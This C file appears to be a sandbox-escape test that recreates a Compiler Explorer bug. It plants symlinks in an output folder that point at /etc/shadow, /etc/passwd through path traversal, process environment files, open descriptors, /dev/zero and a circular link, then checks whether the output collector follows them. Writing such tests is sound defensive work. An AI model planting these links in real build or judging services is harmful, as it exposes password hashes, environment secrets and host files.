/* Compiler Explorer: the service read the output file of a compile by its name, and the compile had left a link
 * there: the answer held the service's own files. Links, chains of links, and a folder of links, where the judge
 * collects. Arguments: files of the host. */
#include <sys/stat.h>

#include "attempt.h"

int main(int argc, char **argv)
{
	mkdir("/box/out", 0777);
	for (int i = 1; i < argc; i++) {
		char path[64];
		snprintf(path, sizeof path, "/box/out/canary%d", i);
		must("a link to a canary", symlink(argv[i], path) == 0);
	}
	symlink("/proc/self/environ", "/box/out/environ");
	symlink("/proc/1/environ", "/box/out/environ1");
	symlink("/proc/self/root/etc/shadow", "/box/out/shadow");
	symlink("/proc/self/fd/3", "/box/out/descriptor");
	symlink("../../../../../../etc/passwd", "/box/out/up");
	symlink("/etc", "/box/out/folder");
	symlink("chain2", "/box/out/chain1");
	symlink("/etc/hostname", "/box/out/chain2");
	symlink("/dev/zero", "/box/out/endless");
	symlink("/box/out", "/box/out/circle");
	must("planted", access("/box/out", X_OK) == 0);
	return verdict();
}
